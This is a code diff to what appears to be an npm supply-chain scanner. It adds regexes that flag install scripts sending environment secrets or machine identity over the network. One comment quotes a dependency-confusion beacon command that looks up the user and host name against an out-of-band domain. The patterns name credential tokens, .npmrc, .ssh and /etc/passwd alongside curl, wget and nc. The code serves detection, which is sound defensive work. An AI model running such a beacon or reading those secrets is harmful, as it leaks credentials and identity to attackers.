@@ -12,6 +12,9 @@ const STRONG_ENV = /^(JSON\.stringify|new URLSearchParams|querystring\.stringify
 const STRONG_IDIOMS: ReadonlySet<BuildIdiom> = new Set(['tr-swap', 'grep-binary-marker', 'decompress-to-shell', 'decode-to-shell', 'silenced-decompress']);
 const THEFT_CATEGORIES = /(ssh|browser-profile|crypto-wallet|chat-token|system-accounts)\)$/;
 const ENV_LEAK_IN_SHELL = /\b(printenv|env)\b\s*(\||>|\)|$)|\$\{?(NPM_TOKEN|NODE_AUTH_TOKEN|GITHUB_TOKEN|GH_TOKEN|AWS_[A-Z_]+)\b|\.npmrc\b|\.ssh\/|\/etc\/passwd/;
+/** Machine identity in a command line (the dependency-confusion beacon: `nslookup $(whoami).$(hostname).x.oast.fun`). */
+const IDENTITY_IN_SHELL = /\$\(\s*(whoami|hostname|id|uname(\s+-\w+)*|pwd)\s*\)|`\s*(whoami|hostname|id|uname(\s+-\w+)*|pwd)\s*`|\$\{?HOSTNAME\b/;
+const NET_TOOL_IN_SHELL = /\b(curl|wget|nc|ncat|nslookup|dig|host|ping)\b/;
 
 export function fileEvidence(s: Site, label?: string): Evidence {
   return { kind: 'file', file: s.file, ...(s.line ? { line: s.line } : {}), excerpt: s.excerpt, ...(label ? { label } : {}) };
@@ -47,17 +50,25 @@ type EvidenceFor = (file: string, kinds: CapabilityKind[]) => Evidence[];
 
 function installRules(facts: ContentFacts, emit: Emit, has: Has, evidenceFor: EvidenceFor): void {
   for (const s of facts.installScripts) {
-    const scriptEv: Evidence = { kind: 'metadata', field: `scripts.${s.event}`, value: s.command, label: 'install script' };
+    const scriptEv: Evidence = s.implicit
+      ? { kind: 'metadata', field: s.implicit, value: s.command, label: `implicit install script (npm runs "${s.command}" when ${s.implicit} exists)` }
+      : { kind: 'metadata', field: `scripts.${s.event}`, value: s.command, label: 'install script' };
     const net = s.files.filter((f) => has(f, 'network'));
     const envSer = s.files.filter((f) => facts.capabilities.some((c) => c.file === f && c.kind === 'env-serialize') || has(f, 'env-serialize'));
     const secrets = s.files.filter((f) => has(f, 'fs-sensitive'));
     const shellHits = [...s.idioms, ...facts.buildSignals.filter((b) => s.files.includes(b.file))];
     const installEndpoints = facts.endpoints.filter((e) => s.files.includes(e.file) || e.file === `package.json#scripts.${s.event}`);
-    const shellLeak = ENV_LEAK_IN_SHELL.test(s.command) && (/\b(curl|wget|nc)\b/.test(s.command) || installEndpoints.length > 0);
+    // Secrets with any network tool; machine identity only towards an exfiltration endpoint
+    // (a hostname in a download URL is ordinary, a hostname sent to an OAST domain is a beacon).
+    const shellLeak = (ENV_LEAK_IN_SHELL.test(s.command) && (NET_TOOL_IN_SHELL.test(s.command) || installEndpoints.length > 0)) ||
+      (IDENTITY_IN_SHELL.test(s.command) && installEndpoints.some((e) => e.file.startsWith('package.json') && e.category !== 'raw-ip'));
     if ((net.length > 0 && (envSer.length > 0 || secrets.length > 0)) || shellLeak) {
       const ev = [scriptEv, ...net.flatMap((f) => evidenceFor(f, ['network'])), ...envSer.flatMap((f) => evidenceFor(f, ['env-serialize'])), ...secrets.flatMap((f) => evidenceFor(f, ['fs-sensitive']))];
-      emit(R.installExfiltration, 'critical', 'high', `${s.event} script sends ${envSer.length > 0 || shellLeak ? 'the environment' : 'credential files'} over the network`, ev,
-        `The ${s.event} script runs ${s.files.join(', ') || 'a command'} at install time; that code reaches the network and ${envSer.length > 0 ? 'serialises process.env' : 'reads credential locations'}.`,
+      const what = envSer.length > 0 || (shellLeak && ENV_LEAK_IN_SHELL.test(s.command)) ? 'the environment' : shellLeak ? 'the machine identity (user, host name)' : 'credential files';
+      emit(R.installExfiltration, 'critical', 'high', `${s.event} script sends ${what} over the network`, [...ev, ...installEndpoints.slice(0, 2).map((e) => fileEvidence(e, `endpoint (${e.category}): ${e.host}`))],
+        net.length === 0 && shellLeak
+          ? `The ${s.event} command line sends ${what} to ${installEndpoints.map((e) => e.host).slice(0, 2).join(', ') || 'the network'} at install time.`
+          : `The ${s.event} script runs ${s.files.join(', ') || 'a command'} at install time; that code reaches the network and ${envSer.length > 0 ? 'serialises process.env' : 'reads credential locations'}.`,
         'Do not install this version; rotate any token present on machines that installed it.');
     }
     const dl = shellHits.filter((h) => h.idiom === 'download-exec' || h.idiom === 'decompress-to-shell' || h.idiom === 'decode-to-shell');
